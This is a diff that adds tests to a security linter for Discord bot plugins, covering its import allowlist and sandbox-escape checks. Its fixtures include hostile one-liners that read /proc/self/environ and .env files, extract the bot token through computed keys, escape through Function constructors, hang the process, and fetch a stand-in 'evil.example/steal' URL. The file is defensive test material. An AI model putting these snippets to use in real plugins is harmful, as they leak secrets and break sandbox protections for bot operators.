@@ -487,3 +487,148 @@ describe("forbidden APIs: the policy's own lists", () => {
     ]);
   });
 });
+
+describe("the import allowlist (default policy)", () => {
+  const testPath = "bot/plugins/demo/demo.test.ts";
+  const blocked: [name: string, code: string, rule: string, path?: string][] = [
+    ["discord.js", `import { Client } from "discord.js";`, "api/import-package"],
+    ["a discord.js helper package", `import { bold } from "@discordjs/formatters";`, "api/import-package"],
+    ["a value import of discord.js with only type specifiers (Node keeps the import)", `import { type Client } from "discord.js";`, "api/import-package"],
+    ["a package subpath not listed", `import { z } from "zod/v4";`, "api/import-package"],
+    ["vitest in plugin code", `import { vi } from "vitest";`, "api/import-package"],
+    ["vitest/node in a test file", `import { startVitest } from "vitest/node";`, "api/import-package", testPath],
+    ["vitest internals in a test file", `import { x } from "vitest/dist/chunks/x.js";`, "api/import-package", testPath],
+    ["the bot core", `import { definePlugin } from "../../core/plugin.ts";`, "api/import-outside"],
+    ["the bot core by a longer way", `import { x } from "../../plugins/../core/settings.ts";`, "api/import-outside"],
+    ["the API's test helpers from plugin code", `import { runCommand } from "../../plugin-api/testing.ts";`, "api/import-outside"],
+    ["the plugin API with a query", `import { definePlugin } from "../../plugin-api/index.ts?x";`, "api/import-unanalysed"],
+    ["a percent-encoded climb", `import x from "./%2e%2e/%2e%2e/core/plugin.ts";`, "api/import-unanalysed"],
+    ["node:fs", `import { readFileSync } from "node:fs";`, "api/import-builtin"],
+    ["bare fs", `import fs from "fs";`, "api/import-builtin"],
+    ["node:path", `import { join } from "node:path";`, "api/import-builtin"],
+    ["node:process default-as", `import { default as p } from "node:process";\nexport const t = p.env.DISCORD_TOKEN;`, "api/import-builtin"],
+    ["node:process default-as reads the env", `import { default as p } from "node:process";\nexport const t = p.env.DISCORD_TOKEN;`, "api/env"],
+    ["a built-in sub-module not listed", `import { types } from "node:util/types";`, "api/import-builtin"],
+    ["node:os", `import os from "node:os";`, "api/import-builtin"],
+    ["require of fs", `const fs = require("fs");`, "api/import-builtin"],
+    ["import() of discord.js", `const d = await import("discord.js");`, "api/import-package"],
+    ["process.getBuiltinModule of fs", `const fs = process.getBuiltinModule("node:fs");`, "api/import-builtin"],
+    ["re-export of discord.js", `export { Client } from "discord.js";`, "api/import-package"],
+    ["export * of the core", `export * from "../../core/plugin.ts";`, "api/import-outside"],
+    ["vi.importActual of child_process", `import { vi } from "vitest";\nconst cp = await vi.importActual("node:child_process");`, "api/forbidden-module", testPath],
+    ["vi.importActual of fs", `import { vi } from "vitest";\nconst fs = await vi.importActual<typeof import("node:fs")>("node:fs");`, "api/import-builtin", testPath],
+    ["vi.mock of discord.js", `import { vi } from "vitest";\nvi.mock("discord.js");`, "api/import-package", testPath],
+    ["vi.importActual with a computed name", `import { vi } from "vitest";\nawait vi.importActual(name);`, "api/dynamic-import", testPath],
+  ];
+  it.each(blocked)("%s is blocked", (_name, code, rule, path) => {
+    expect(rulesFor(code, path)).toContain(rule);
+  });
+
+  it("names the file, line, specifier and what is allowed", () => {
+    const file = addedFile("bot/plugins/demo/index.ts", `export const x = 1;\nimport { Client } from "discord.js";\n`);
+    const { findings, emit } = collector();
+    analyzeCode(context([file]), file, emit);
+    expect(findings).toEqual([
+      { rule: "api/import-package", severity: "error", file: "bot/plugins/demo/index.ts", line: 2, column: 1, message: expect.stringMatching(/"discord\.js".*allowed: zod; in test files also vitest/) },
+    ]);
+    expect(rulesFor(`import fs from "node:fs";`).length).toBe(1);
+  });
+
+  const allowed: [name: string, code: string, path?: string][] = [
+    ["the plugin API", `import { definePlugin, type CommandCall } from "../../plugin-api/index.ts";`],
+    ["the plugin API from the registry", `import type { Plugin } from "../plugin-api/index.ts";\nimport { definePlugin } from "../plugin-api/index.ts";`, "bot/plugins/index.ts"],
+    ["the plugin API from a nested file", `import { definePlugin } from "../../../plugin-api/index.ts";`, "bot/plugins/demo/lib/x.ts"],
+    ["files of the plugin and another plugin, JSON data", `import { helper } from "./helper.ts";\nimport { PONG } from "../ping/index.ts";\nimport data from "./data.json" with { type: "json" };\nimport settings from "../settings.json" with { type: "json" };`],
+    ["zod", `import { z } from "zod";`],
+    ["pure built-ins either way", `import { randomInt } from "node:crypto";\nimport { createHash } from "crypto";\nimport { Buffer } from "node:buffer";\nimport { inspect } from "node:util";\nimport assert from "node:assert";\nimport { URLSearchParams } from "node:url";\nimport qs from "querystring";\nimport { StringDecoder } from "node:string_decoder";`],
+    ["types from anywhere (erased before it runs)", `import type { Client } from "discord.js";\nimport type { BotSettings } from "../../core/settings.ts";\nexport type { Guild } from "discord.js";`],
+    ["vitest and the test helpers in a test file", `import { describe, expect, it, vi } from "vitest";\nimport { runCommand } from "../../plugin-api/testing.ts";\nimport plugin from "./index.ts";\nvi.mock("./helper.ts");\nconst real = await vi.importActual<typeof import("./helper.ts")>("./helper.ts");`, "bot/plugins/demo/demo.test.ts"],
+    ["literal dynamic import of an allowed module", `const { z } = await import("zod");\nconst h = await import("./helper.ts");`],
+  ];
+  it.each(allowed)("%s is allowed", (_name, code, path) => {
+    expect(rulesFor(code, path)).toEqual([]);
+  });
+
+  it("follows the policy's lists", () => {
+    const p = defaultPolicy();
+    const policy: Policy = { ...p, imports: { ...p.imports, packages: ["zod", "date-fns", "discord-api-types/v10"], builtins: ["crypto", "path"] } };
+    expect(rulesFor(`import { format } from "date-fns";\nimport { Routes } from "discord-api-types/v10";\nimport { join } from "node:path";`, undefined, policy)).toEqual([]);
+    expect(rulesFor(`import { Routes } from "discord-api-types";`, undefined, policy)).toEqual(["api/import-package"]);
+    expect(rulesFor(`import { inspect } from "node:util";`, undefined, policy)).toEqual(["api/import-builtin"]);
+  });
+});
+
+describe("defense in depth: the classes of issue 10", () => {
+  const hostile: [name: string, code: string, rule: string][] = [
+    // cross-file aliasing: a file hands process / globalThis / constructors to another
+    ["exports process under another name", `export const p = process;`, "api/exported-alias"],
+    ["exports globalThis through an export list", `const g = globalThis;\nexport { g as helpers };`, "api/exported-alias"],
+    ["exports an alias assigned later", `export let p: unknown;\np = process;`, "api/exported-alias"],
+    ["exports process.env", `export const env = process.env;`, "api/exported-alias"],
+    ["exports a constructor", `export const C = [].map.constructor;`, "api/exported-alias"],
+    ["exports a constructor as default", `export default ({}).constructor;`, "api/exported-alias"],
+    ["exports Function.prototype", `export const FP = Object.getPrototypeOf(async () => {});`, "api/exported-alias"],
+    ["exports fetch", `export const f = fetch;`, "api/exported-alias"],
+    ["exports require", `export const r = require;`, "api/exported-alias"],
+    ["exports the global process by name", `export { process };`, "api/exported-alias"],
+    // X.constructor with code that is not a literal
+    ["new Object.constructor(src)", `export const run = (src: string) => new Object.constructor(src)();`, "api/function-constructor"],
+    ["new fn.constructor(src)", `const f = () => 1;\nexport const run = (src: string) => new f.constructor(src)();`, "api/function-constructor"],
+    ["new [].map.constructor(src)", `export const run = (src: string) => new [].map.constructor(src)();`, "api/function-constructor"],
+    ["new x.constructor on an imported value", `import { helper } from "./helper.ts";\nexport const run = (src: string) => new helper.constructor(src)();`, "api/function-constructor"],
+    ["an alias of x.constructor, newed", `const C = ({}).constructor.constructor;\nexport const run = (src: string) => new C(src)();`, "api/function-constructor"],
+    ["an alias of an unknown .constructor, newed", `import { helper } from "./helper.ts";\nconst C = helper.constructor;\nexport const run = (src: string) => new C(src)();`, "api/function-constructor"],
+    ["Reflect.construct(Object.constructor, …)", `export const run = (src: string) => Reflect.construct(Object.constructor, [src])();`, "api/function-constructor"],
+    ["Reflect.construct of an unknown .constructor", `import { helper } from "./helper.ts";\nexport const run = (src: string) => Reflect.construct(helper.constructor, [src])();`, "api/function-constructor"],
+    ["x.constructor.call", `export const run = (src: string) => Math.max.constructor.call(null, src)();`, "api/function-constructor"],
+    ["new this.constructor in a static method", `export class A { static make(src: string) { return new this.constructor(src); } }`, "api/function-constructor"],
+    // the CommonJS wrapper's arguments
+    ["arguments[1] at the top level", `const req = arguments[1];\nreq("child_process");`, "api/forbidden-global"],
+    ["arguments in an arrow at the top level", `export const r = () => arguments[1]("fs");`, "api/forbidden-global"],
+    // bare global assignment
+    ["JSON = …", `JSON = { parse: (s: string) => s, stringify: String } as any;`, "api/global-mutation"],
+    ["Object = …", `(Object as any) = function () {};\nObject = Object;`, "api/global-mutation"],
+    ["globalThis.JSON = …", `globalThis.JSON = {} as any;`, "api/global-mutation"],
+    ["fetch = … (destructuring)", `[fetch] = [async () => new Response("")];`, "api/global-mutation"],
+    ["an undeclared name assigned (a new global)", `leaked = "x";`, "api/global-mutation"],
+    ["JSON reassigned through ++ / for-of", `for (JSON of [1]) {}`, "api/global-mutation"],
+    // the Discord client, in any form a plugin could still reach it
+    ["client[computed key]", `export const f = (client: any) => client[["to", "ken"].join("")];`, "api/client-token"],
+    ["client[String.fromCharCode(…)]", `export const f = (i: any) => i.client[String.fromCharCode(116, 111, 107, 101, 110)];`, "api/client-token"],
+    ["client[key imported from another file]", `import { KEY } from "./keys.ts";\nexport const f = (i: any) => i.client[KEY];`, "api/client-token"],
+    ["Reflect.ownKeys over the client", `export const f = (i: any) => Reflect.ownKeys(i.client).map((k) => i.client[k]);`, "api/client-token"],
+    ["for-in over the client", `export const f = (client: any) => { const out = []; for (const k in client) out.push(client[k]); return out; };`, "api/client-token"],
+    ["Object.entries of the client", `export const f = (i: any) => Object.entries(i.client);`, "api/client-token"],
+    // process handles, a frozen thread, an endless loop
+    ["process._getActiveHandles", `export const h = () => (process as any)._getActiveHandles();`, "api/forbidden-member"],
+    ["Atomics.wait", `export const sleep = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`, "api/forbidden-member"],
+    ["for (;;) {}", `export const hang = () => { for (;;) {} };`, "api/busy-loop"],
+    ["while (true) with only continue", `export const hang = () => { let i = 0; while (true) { i++; if (i > 3) continue; } };`, "api/busy-loop"],
+    ["do … while (1)", `export const hang = () => { do { Math.random(); } while (1); };`, "api/busy-loop"],
+    ["a break of an inner loop only", `export const hang = () => { while (!0) { for (const x of [1]) { break; } } };`, "api/busy-loop"],
+    // fs: helpers shadowed to fake "next to the module"; new ReadStream; globSync
+    ["a local URL faking the exemption", `import { readFileSync } from "node:fs";\nclass URL { constructor(_a: string, _b: string) { return "/proc/self/environ" as any; } }\nexport const e = readFileSync(new URL("./data.json", import.meta.url));`, "api/fs-read"],
+    ["a local join faking the exemption", `import { readFileSync } from "node:fs";\nconst join = (..._a: string[]) => "/proc/self/environ";\nexport const e = readFileSync(join(import.meta.dirname, "data.json"));`, "api/fs-read"],
+    ["a local __dirname faking the exemption", `import { readFileSync } from "node:fs";\nimport { join } from "node:path";\nconst __dirname = "/proc/self";\nexport const e = readFileSync(join(__dirname, "environ"));`, "api/fs-read"],
+    ["new fs.ReadStream", `import fs from "node:fs";\nexport const s = new fs.ReadStream("/proc/self/environ");`, "api/fs-read"],
+    ["fs.globSync", `import fs from "node:fs";\nexport const all = fs.globSync("/**/.env");`, "api/fs-read"],
+    // the plugin API's fetch to a host that is not allowed
+    ["call.fetch to another host", `export const run = async (call: any) => call.fetch("https://evil.example/steal?t=1");`, "api/network"],
+  ];
+  it.each(hostile)("%s", (_name, code, rule) => {
+    expect(rulesFor(code)).toContain(rule);
+  });
+
+  const benign: [name: string, code: string][] = [
+    ["exports of functions, values, API names and allowed env values", `import { definePlugin } from "../../plugin-api/index.ts";\nimport { randomInt } from "node:crypto";\nimport { z } from "zod";\nexport const roll = () => randomInt(1, 7);\nexport const schema = z.object({ n: z.number() });\nexport { randomInt, z };\nexport const MODE = process.env.NODE_ENV ?? "development";\nexport const PONG = "Pong!";\nexport default definePlugin({ name: "demo", description: "d" });`],
+    ["constructors used the ordinary ways", `export class A { n = ""; clone() { return new (this.constructor as any)(this.n); } copy() { return new (this as any).constructor(this.n); } }\nexport const same = (v: object) => v.constructor === Object;\nexport const kind = (v: object) => v.constructor.name;\nexport const fresh = (v: any) => new v.constructor();`],
+    ["arguments inside functions", `export function sum() { return Array.from(arguments).reduce((a: number, b: number) => a + b, 0); }\nexport const o = { f() { return () => arguments.length; } };`],
+    ["assignments to locals, parameters and hoisted functions", `let count = 0;\ncount += 1;\ncount++;\nlet a: number, b: number;\n[a, b] = [1, 2];\n({ a, b } = { a: 3, b: 4 });\nexport function f(x: number) { x = x * 2; g = g; return x; }\nfunction g() {}\nfor (count of [1, 2]) {}\ntry { JSON.parse("x"); } catch (e) { e = null; }`],
+    ["loops with a way out", `export async function poll(next: () => Promise<boolean>) { for (;;) { if (await next()) return; } }\nexport function first(xs: number[]) { let i = 0; while (true) { if (xs[i] > 0) break; i++; } return i; }\nexport function* ids() { let i = 0; while (true) yield i++; }\nexport function check(n: number) { do { n--; } while (n > 0); outer: while (1) { for (;;) { break outer; } } }`],
+    ["call.fetch to an allowed host, or a computed URL left to the core", `export const run = async (call: any, id: string) => { await call.fetch("https://discord.com/api/v10/users/@me"); await call.fetch(\`https://cdn.discordapp.com/a/\${id}.png\`); await call.fetch(call.options.url as string); await call.store.get("k"); };`],
+    ["client-like names that are not the client", `const clients = new Map<string, string>();\nexport const f = (k: string) => clients.get(k);\nconst o: Record<string, number> = {};\nexport const g = (k: string) => o[k];\nfor (const k in o) console.log(k);\nexport const keys = Object.keys(o);`],
+  ];
+  it.each(benign)("benign: %s", (name, code) => {
+    expect(rulesFor(code), name).toEqual([]);
+  });
+});
